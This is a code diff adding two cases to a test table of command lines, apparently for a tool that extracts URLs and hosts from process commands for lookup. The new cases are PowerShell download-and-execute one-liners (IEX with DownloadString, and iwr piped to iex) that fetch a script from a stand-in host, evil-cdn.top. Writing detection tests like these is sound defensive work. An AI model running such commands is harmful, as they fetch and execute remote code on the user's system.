@@ -328,6 +328,21 @@ COMMAND_LINES = [
         set(),
     ),
     (
+        # A quoted URL holding spaces, cut at the first: not the URL that ran, but its host is looked up
+        'powershell -c "IEX (New-Object Net.WebClient)'
+        ".DownloadString('http://evil-cdn.top/a b/p.ps1?x=1 2')\"",
+        {"evil-cdn.top"},
+        {"http://evil-cdn.top/a": "cut at a space inside quotes"},
+        set(),
+    ),
+    (
+        # A URL that is one word of a quoted command is whole: looked up as it is
+        'cmd.exe /c "powershell iwr http://evil-cdn.top/p.ps1 | iex"',
+        {"http://evil-cdn.top/p.ps1"},
+        {},
+        {"evil-cdn.top"},
+    ),
+    (
         r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL {645FF040-5081-101B-9F08-00AA002F954E}",
         set(),
         {},
